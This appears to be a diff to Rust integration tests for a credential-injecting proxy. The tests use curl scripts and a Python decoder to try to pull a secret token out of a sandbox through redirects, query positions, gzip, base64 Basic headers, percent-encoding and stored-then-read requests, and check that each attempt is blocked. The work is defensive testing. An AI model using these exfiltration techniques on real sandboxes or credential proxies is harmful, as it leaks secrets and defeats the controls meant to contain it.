@@ -75,12 +75,14 @@ fn placeholder_to_other_terminated_host_is_misuse() {
             "\"{other}/upper?t=$(printf %s \"$MY_TOKEN\" | tr a-z A-Z)\""
         )),
         // The bound origin redirects to the other host; curl follows and keeps
-        // the custom header (it drops Authorization itself on a host change).
+        // Authorization (--location-trusted; a custom header would be refused at
+        // the bound host already: not the credential's position).
         curl(&format!(
-            "-L -H \"X-Api-Key: $MY_TOKEN\" \"{bound}/redirect?to={other}/redirected\""
+            "-L --location-trusted -H \"Authorization: Bearer $MY_TOKEN\" \"{bound}/redirect?to={other}/redirected\""
         )),
-        // A redirect whose Location carries the placeholder (the origin got the
-        // value there: it was substituted in the bound request's query).
+        // A redirect whose Location would carry the placeholder: refused at
+        // the bound host already (a query parameter is not the credential's
+        // position), so it never reaches the origin.
         curl(&format!(
             "-L \"{bound}/redirect?to={other}/redirected2?t=$MY_TOKEN\""
         )),
@@ -98,8 +100,8 @@ fn placeholder_to_other_terminated_host_is_misuse() {
         "{}",
         out.describe()
     );
-    // Only the bound /redirect requests reached the origin (with the value, as
-    // the binding says); nothing ever went to 127.0.0.1.
+    // Only the first bound /redirect request reached the origin (with the value,
+    // as the binding says); nothing ever went to 127.0.0.1.
     for r in o.requests() {
         assert_eq!(
             r["path"].as_str().unwrap_or("").split('?').next(),
@@ -109,7 +111,7 @@ fn placeholder_to_other_terminated_host_is_misuse() {
         let host = Origin::header(&r, "host");
         assert_eq!(host, vec![format!("localhost:{}", o.port)], "{r}");
     }
-    assert_eq!(o.requests().len(), 2, "{}", o.log_text());
+    assert_eq!(o.requests().len(), 1, "{}", o.log_text());
     out.assert_clean(&value);
     assert!(!stdout.contains(&value));
 }
@@ -150,7 +152,7 @@ fn placeholder_to_spliced_host_arrives_as_placeholder() {
             "--cacert /tmp/both.pem -H \"Authorization: Bearer $MY_TOKEN\" -H \"X-Api-Key: $MY_TOKEN\" \"{other}/spliced?t=$MY_TOKEN\""
         )),
         curl(&format!(
-            "--cacert /tmp/both.pem -L -H \"X-Api-Key: $MY_TOKEN\" \"{bound}/redirect?to={other}/after-redirect\""
+            "--cacert /tmp/both.pem -L --location-trusted -H \"Authorization: Bearer $MY_TOKEN\" \"{bound}/redirect?to={other}/after-redirect\""
         )),
         curl(&format!("--cacert /tmp/both.pem -u \"u:$MY_TOKEN\" {other}/basic")),
     );
@@ -706,36 +708,57 @@ fn value_in_no_byte_capsule_writes() {
     );
 }
 
-/// The origin answers gzip-encoded (the run asks for it: Accept-Encoding is the
-/// run's to send) and echoes the Authorization header in the compressed body.
-/// The scrubber sees compressed bytes (src/proxy/egress/scrub.rs says so).
+/// An attacker's decoder for what an echo handed the run: every `Basic` token
+/// decoded (its longest decodable prefix: a scrubbed token is cut by the
+/// placeholder) and the whole text percent-decoded.
+const DECODE: &str = "import sys,base64,re,urllib.parse; t=sys.stdin.read(); print(urllib.parse.unquote(t)); print([base64.b64decode(m[:len(m)//4*4]).decode('latin-1') for m in re.findall(r'Basic ([A-Za-z0-9+/]+)', t)])";
+
+/// The origin answers gzip-encoded and echoes the Authorization header in the
+/// compressed body (the run asked for gzip: `--compressed`). capsule asks every
+/// credentialed request's origin for `identity` (the scrubber reads plain bytes
+/// only); an origin that compresses anyway gets a 502, never relayed.
 #[test]
-#[ignore = "hole: scrub.rs scans compressed bodies; the run sets Accept-Encoding (reported to the lead)"]
 fn gzip_echo_does_not_hand_the_value_to_the_run() {
     let o = Origin::start();
     let s = Scratch::new();
     let value = secret_value("gzip");
     let p = s.policy(o.port, ECHO);
     let a = format!("https://localhost:{}", o.port);
-    let out = exec(
-        &s,
-        &value,
-        &p,
-        &[],
-        &["/bin/sh", "-c", &curl(&format!("--compressed {a}/gzip"))],
-    );
-    assert_eq!(codes(&out), vec![200], "{}", out.describe());
+    let script = [
+        curl(&format!("--compressed {a}/gzip")),
+        curl(&format!("--compressed {a}/echo")),
+    ]
+    .join("; ");
+    let out = exec(&s, &value, &p, &[], &["/bin/sh", "-c", &script]);
+    assert_eq!(codes(&out), vec![502, 200], "{}", out.describe());
+    let stdout = out.child_stdout();
     assert!(
-        !out.child_stdout().contains(&value),
+        stdout.contains("the origin compressed a response to a credentialed request"),
+        "{stdout}"
+    );
+    assert!(stdout.contains("localhost"), "{stdout}");
+    for path in ["/gzip", "/echo"] {
+        let rs = o.requests_to(path);
+        assert_eq!(rs.len(), 1, "{}", o.log_text());
+        assert_eq!(
+            Origin::header(&rs[0], "accept-encoding"),
+            vec!["identity".to_string()],
+            "{path}: {}",
+            rs[0]
+        );
+    }
+    assert!(
+        !stdout.contains(&value),
         "HOLE: the value reached the run through a gzip-encoded echo: {}",
         out.describe()
     );
+    out.assert_clean(&value);
 }
 
 /// `inject: {basic: ...}`: an origin that echoes the Authorization header hands
-/// the run `Basic base64(user:VALUE)`; the scrubber looks for the raw value only.
+/// the run `Basic base64(user:VALUE)`; the scrubber knows the value's base64
+/// forms, so the run decodes no value from it.
 #[test]
-#[ignore = "hole: scrub.rs scrubs the raw value only, not base64(user:value) of Basic injection (reported to the lead)"]
 fn basic_echo_does_not_hand_the_value_to_the_run() {
     let o = Origin::start();
     let s = Scratch::new();
@@ -748,8 +771,7 @@ fn basic_echo_does_not_hand_the_value_to_the_run() {
         ),
     );
     let a = format!("https://localhost:{}", o.port);
-    let decode = "import sys,base64,re; t=sys.stdin.read(); print([base64.b64decode(m).decode('latin-1') for m in re.findall(r'Basic ([A-Za-z0-9+/=]+)', t)])";
-    let script = format!("{CURL} -sS -i {a}/echo | {PYTHON} -c \"{decode}\"");
+    let script = format!("{CURL} -sS -i {a}/echo | {PYTHON} -c \"{DECODE}\"");
     let out = exec(&s, &value, &p, &[], &["/bin/sh", "-c", &script]);
     assert_eq!(out.status, 0, "{}", out.describe());
     assert_eq!(
@@ -760,43 +782,102 @@ fn basic_echo_does_not_hand_the_value_to_the_run() {
         )]
     );
     assert!(
+        out.child_stdout().contains("x-access-token:"),
+        "the decoder ran: {}",
+        out.describe()
+    );
+    assert!(
         !out.child_stdout().contains(&value),
         "HOLE: the run decoded the value from an echoed Basic header: {}",
         out.describe()
     );
+    out.assert_clean(&value);
 }
 
 /// A value with characters that are not unreserved (AWS secret keys have `/`
-/// and `+`): the placeholder the run puts in a bound request's query goes to the
-/// origin percent-encoded; an origin echoing its request target hands the run
-/// the encoded value, which the scrubber (raw bytes) does not know.
+/// and `+`). The placeholder in a position of the run's choosing (a query
+/// parameter that is not the credential's) is refused. With `inject: {query}`
+/// the value goes to the origin percent-encoded, and a Basic header with a
+/// username the run picks carries it base64-encoded at any alignment: an
+/// origin echoing its request target and headers hands the run neither.
 #[test]
-#[ignore = "hole: inject.rs substitutes a percent-encoded value in the query; scrub.rs knows only the raw form (reported to the lead)"]
 fn percent_encoded_echo_does_not_hand_the_value_to_the_run() {
     let o = Origin::start();
     let s = Scratch::new();
     let value = format!("{}/x+y=", secret_value("pct"));
     let p = s.policy(o.port, ECHO);
     let a = format!("https://localhost:{}", o.port);
-    let decode = "import sys,urllib.parse; print(urllib.parse.unquote(sys.stdin.read()))";
-    let script = format!("{CURL} -sS \"{a}/echo?q=$MY_TOKEN\" | {PYTHON} -c \"{decode}\"");
+    let script = curl(&format!("\"{a}/echo?q=$MY_TOKEN\""));
     let out = exec(&s, &value, &p, &[], &["/bin/sh", "-c", &script]);
-    assert_eq!(out.status, 0, "{}", out.describe());
+    assert_eq!(codes(&out), vec![403], "{}", out.describe());
     assert!(
-        !out.child_stdout().contains(&value),
-        "HOLE: the run got the value back percent-encoded: {}",
+        out.child_stdout().contains("query parameter q"),
+        "{}",
         out.describe()
     );
+    assert_eq!(
+        out.count_denials("credential_misuse"),
+        1,
+        "{}",
+        out.describe()
+    );
+    assert!(o.requests().is_empty(), "{}", o.log_text());
+    out.assert_clean(&value);
+
+    let p = s.policy(
+        o.port,
+        &ECHO.replace(
+            "placeholder_env: [MY_TOKEN]",
+            "placeholder_env: [MY_TOKEN]\n    inject: {query: q}",
+        ),
+    );
+    let script = ["a", "ab", "abc"]
+        .map(|user| {
+            format!(
+                "{CURL} -sS -i -u \"{user}:$MY_TOKEN\" \"{a}/echo?q=$MY_TOKEN\" | {PYTHON} -c \"{DECODE}\""
+            )
+        })
+        .join("; ");
+    let out = exec(&s, &value, &p, &[], &["/bin/sh", "-c", &script]);
+    assert_eq!(out.status, 0, "{}", out.describe());
+    let rs = o.requests_to("/echo");
+    assert_eq!(rs.len(), 3, "{}", o.log_text());
+    let encoded = value
+        .replace('/', "%2F")
+        .replace('+', "%2B")
+        .replace('=', "%3D");
+    assert!(
+        rs[0]["path"]
+            .as_str()
+            .unwrap_or("")
+            .ends_with(&format!("q={encoded}")),
+        "{}",
+        rs[0]
+    );
+    assert_eq!(
+        Origin::header(&rs[2], "authorization"),
+        vec![format!("Basic {}", STANDARD.encode(format!("abc:{value}")))]
+    );
+    assert_eq!(
+        out.count_denials("credential_misuse"),
+        0,
+        "{}",
+        out.describe()
+    );
+    assert!(
+        !out.child_stdout().contains(&value),
+        "HOLE: the run got the value back percent- or base64-encoded: {}",
+        out.describe()
+    );
+    out.assert_clean(&value);
 }
 
-/// The placeholder in an arbitrary position of a bound request (its query) is
-/// replaced by the value too (contract: "any placeholder anywhere in the head");
-/// an origin that keeps what it is sent and serves it back on a path the
-/// credential is not bound to (responses to unbound requests are not scrubbed)
-/// hands the value to the run. Realistic: an API whose writes are readable
-/// without the token (a public gist, an issue comment, a paste).
+/// The placeholder in a position of the run's choosing (here a query parameter)
+/// of a bound request would make the origin store the value, to be read back by a
+/// request the credential is not bound to (its response is not scrubbed).
+/// Realistic: an API whose writes are readable without the token (a public gist,
+/// an issue comment, a paste). Refused as misuse: nothing is stored.
 #[test]
-#[ignore = "hole (design): placeholders are substituted anywhere in a bound head; unbound responses are not scrubbed (reported to the lead)"]
 fn stored_then_read_unbound_does_not_hand_the_value_to_the_run() {
     let o = Origin::start();
     let s = Scratch::new();
@@ -809,14 +890,27 @@ fn stored_then_read_unbound_does_not_hand_the_value_to_the_run() {
         ),
     );
     let a = format!("https://localhost:{}", o.port);
-    let script = format!("{CURL} -sS \"{a}/store?note=$MY_TOKEN\"; {CURL} -sS {a}/load");
+    let script = [
+        curl(&format!("\"{a}/store?note=$MY_TOKEN\"")),
+        curl(&format!("-H \"X-Note: $MY_TOKEN\" {a}/store")),
+        curl(&format!("{a}/load")),
+    ]
+    .join("; ");
     let out = exec(&s, &value, &p, &[], &["/bin/sh", "-c", &script]);
-    assert_eq!(out.status, 0, "{}", out.describe());
+    assert_eq!(codes(&out), vec![403, 403, 200], "{}", out.describe());
+    assert_eq!(
+        out.count_denials("credential_misuse"),
+        2,
+        "{}",
+        out.describe()
+    );
+    assert!(o.requests_to("/store").is_empty(), "{}", o.log_text());
     assert!(
         !out.child_stdout().contains(&value),
         "HOLE: the value, written by a bound request at the run's chosen position, read back unbound: {}",
         out.describe()
     );
+    out.assert_clean(&value);
 }
 
 const PARENT_PY: &str = include_str!("cred_support/parent.py");
